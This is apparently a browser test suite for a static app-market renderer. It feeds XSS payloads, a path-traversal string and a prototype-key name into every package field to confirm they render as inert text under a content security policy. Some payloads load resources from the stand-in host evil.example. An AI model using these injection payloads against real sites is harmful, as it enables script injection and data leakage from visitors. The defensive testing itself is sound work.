import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { renderMarket } from '../../../src/app-index/market/render.js';
import type { MarketApp } from '../../../src/app-index/market/model.js';
import { browserThere, startBrowser, visitor, type Visit } from '../../helpers/browser.js';
import { appIdOf, hexOf, marketApp } from '../../helpers/market-models.js';
import { serveSandstorm, serveSite, type Site } from '../../helpers/market-site.js';

/** Each calls `alert` or fetches something, wherever it is taken for markup, script or address. */
const ATTACKS: Readonly<Record<string, string>> = {
  'a script element': '<script>alert(1)</script>',
  'a script from elsewhere': '<script src="//evil.example/x.js"></script>',
  'a picture with a handler': '<img src=x onerror=alert(1)>',
  'the end of an attribute in double quotes': '" autofocus onfocus="alert(1)" x="',
  'the end of an attribute in single quotes': "' autofocus onfocus='alert(1)' x='",
  'an attribute without quotes': 'x onmouseover=alert(1)',
  'the end of the title': '</title><script>alert(1)</script>',
  'the end of a code block': '```\n</code></pre><script>alert(1)</script>',
  'the end of a comment': '--><script>alert(1)</script>',
  'a drawing that acts': '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  'a frame with a document of its own': '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  'another base for all addresses': '<base href="//evil.example/">',
  'a page that moves on': '<meta http-equiv="refresh" content="0;url=//evil.example/">',
  'a style from elsewhere': '<link rel=stylesheet href=//evil.example/x.css>',
  'a form that tells': '<form action=//evil.example/><button autofocus>Install</button></form>',
  'an address that is a script': 'javascript:alert(1)',
  'an address that is a script, disguised': 'java\tscript\n:alert(1)',
  'an address that is a document': 'data:text/html,<script>alert(1)</script>',
  'a Markdown link that is a script': '[click](javascript:alert(1))',
  'a Markdown picture from elsewhere': '![spy](https://evil.example/spy.png)',
  'entities that become markup': '&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;alert(1)',
  'overlong and half signs': '\u00bcscript\u00bealert(1)\ud800<\udc00script>alert(1)</script>',
  'a template of another language': '{{constructor.constructor("alert(1)")()}} ${alert(1)} <%= alert(1) %>',
  'a name that is a property': '__proto__',
  'a path that climbs': '../../../../etc/passwd',
};

const scriptedSvg = (elsewhere: string): string =>
  '<svg xmlns="http://www.w3.org/2000/svg" width="8" height="8" onload="alert(1)"><script>alert(1)</script>' +
  `<image href="${elsewhere}/spy.png" width="8" height="8"/></svg>`;
const SVG = `${hexOf('scripted')}.svg`;

/** The attack in every place where a package or an index has a text. */
function appWith(attack: string, name: string): MarketApp {
  const packageId = hexOf(name);
  return marketApp(name, {
    name: attack,
    version: attack,
    packageId,
    imageId: SVG,
    webLink: attack,
    codeLink: `https://example.com/${attack}`,
    categories: [attack],
    author: {
      name: attack,
      keybaseUsername: attack,
      picture: attack,
      githubUsername: attack,
      twitterUsername: attack,
      hackernewsUsername: attack,
      redditUsername: attack,
    },
    upstreamAuthor: attack,
    shortDescription: attack,
    createdAt: `2024-01-01T00:00:00Z${attack}`,
    details: {
      description: `${attack}\n\n# ${attack}\n\n- ${attack}\n\n[${attack}](${attack})\n\n![${attack}](${attack})\n\n<${attack}>`,
      license: attack,
      screenshots: [
        { imageId: SVG, width: 8, height: 8 },
        { imageId: attack, width: 8, height: 8 },
      ],
    },
    versions: [{ packageId, version: attack, versionNumber: 1, bytes: 1, fileName: `${attack}.spk` }],
  });
}

const POINT_AND_SEARCH = `{
  for (const element of document.querySelectorAll('body *'))
    for (const kind of ['mouseover', 'focus', 'mouseenter', 'error', 'load']) element.dispatchEvent(new Event(kind));
  const search = document.querySelector('[type=search]');
  if (search) {
    search.value = 'alert';
    search.dispatchEvent(new Event('input'));
  }
  const foreign = 'iframe, object, embed, base, meta[http-equiv=refresh], [onload], [onerror], [onfocus], [onmouseover]';
  [...document.querySelectorAll(foreign)].map((element) => element.outerHTML);
}`;
const ADDRESSES =
  "[...document.querySelectorAll('[href], [src], [action]')].map((e) => e.href || e.src || e.action)";

describe.skipIf(!browserThere('hostile packages in a browser'))(
  'hostile packages in a browser',
  { timeout: 60_000 },
  () => {
    const apps = Object.entries(ATTACKS).map(([name, attack]) => appWith(attack, name));
    const title = '<script>alert(1)</script>" onload="alert(1)';
    const pages = renderMarket({ title, servers: Object.values(ATTACKS), apps });
    let browser: Browser;
    /** Without headers: the pages must be safe by themselves, behind any web server. */
    let bare: Site;
    let site: Site;
    /** Who comes to all pages, one after the other. */
    let curious: Visit;
    let elsewhere: Awaited<ReturnType<typeof serveSandstorm>>;

    beforeAll(async () => {
      [browser, elsewhere] = await Promise.all([startBrowser(), serveSandstorm()]);
      const files = new Map([...pages, [`images/${SVG}`, scriptedSvg(elsewhere.address)]]);
      [bare, site] = await Promise.all([
        serveSite(files, { headers: false }),
        serveSite(files, { headers: true }),
      ]);
      curious = await visitor(browser);
    });
    afterAll(async () => {
      await browser.close();
      await Promise.all([bare.close(), site.close(), elsewhere.close()]);
    });

    /** Looks at pages, points at everything and types something; tells what happened that should not have. */
    const lookAt = async (
      { page, requests, troubles }: Visit,
      paths: readonly string[],
    ): Promise<string[]> => {
      for (const path of paths) {
        await page.goto(bare.address + path);
        const foreign = await page.evaluate<string[]>(POINT_AND_SEARCH);
        const addresses = await page.evaluate<string[]>(ADDRESSES);
        troubles.push(...foreign.map((markup) => `holds ${markup}`));
        troubles.push(
          ...addresses.filter((address) => !mayStand(address)).map((address) => `leads to ${address}`),
        );
      }
      const asked = requests.filter((url) => !url.startsWith(bare.address)).map((url) => `asked ${url}`);
      return [...troubles.splice(0), ...asked];
    };
    const mayStand = (address: string): boolean =>
      address.startsWith(bare.address) || /^(https:\/\/example\.com\/|mailto:)/.test(address);

    it('the lists stay what they are', async () => {
      const lists = [...pages.keys()].filter((path) => path.endsWith('.html') && !path.startsWith('app/'));
      expect(await lookAt(curious, lists)).toEqual([]);
    });

    it.each(Object.keys(ATTACKS))('%s stays text', async (name) => {
      expect(await lookAt(curious, [`app/${appIdOf(name)}/index.html`])).toEqual([]);
    });

    it('shows the attack as the text that it is', async () => {
      const { page, context } = await visitor(browser);
      await page.goto(`${bare.address}app/${appIdOf('a script element')}/index.html`);
      expect(await page.getByRole('heading', { level: 1 }).textContent()).toBe('<script>alert(1)</script>');
      await context.close();
    });

    it('finds text in a search that is markup', async () => {
      const { page, context, troubles } = await visitor(browser);
      await page.goto(`${bare.address}?q=${encodeURIComponent('<img src=x onerror=alert(1)>')}`);
      expect(await page.getByRole('status').textContent()).toContain('“<img src=x onerror=alert(1)>”');
      expect(troubles).toEqual([]);
      await context.close();
    });

    it('the page’s policy stops a script even if one got in', async () => {
      const { page, context, troubles } = await visitor(browser);
      await page.goto(bare.address);
      await page.evaluate(`{
      const script = document.createElement('script');
      try { script.textContent = 'alert(1)'; } catch {}
      document.body.append(script);
      try { document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=alert(1)>'); } catch {}
    }`);
      expect(troubles.filter((line) => line.startsWith('dialog'))).toEqual([]);
      expect(troubles.join('\n')).toContain('TrustedScript');
      await context.close();
    });

    it('an icon opened by itself runs nothing under the headers that the web server is to send', async () => {
      const dialogsOf = async (address: string): Promise<string[]> => {
        const { page, context, troubles } = await visitor(browser);
        await page.goto(`${address}images/${SVG}`);
        await page.waitForLoadState('load');
        await context.close();
        return troubles.filter((line) => line.startsWith('dialog'));
      };
      expect(await dialogsOf(site.address)).toEqual([]);
      expect(elsewhere.asked).toEqual([]);
      // Without them it does: the attack is a real one.
      expect((await dialogsOf(bare.address)).length).toBeGreaterThan(0);
      expect(elsewhere.asked).toEqual(['/spy.png']);
    });
  },
);
